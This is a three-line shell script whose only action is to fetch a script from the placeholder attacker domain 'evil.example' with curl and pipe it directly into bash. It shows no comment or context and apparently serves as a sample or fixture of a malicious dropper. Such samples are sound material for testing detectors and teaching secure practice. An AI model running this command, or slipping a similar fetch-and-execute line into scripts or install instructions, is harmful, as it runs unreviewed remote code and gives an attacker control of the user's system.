#!/bin/sh
set -e
curl -fsSL https://evil.example/x.sh | bash
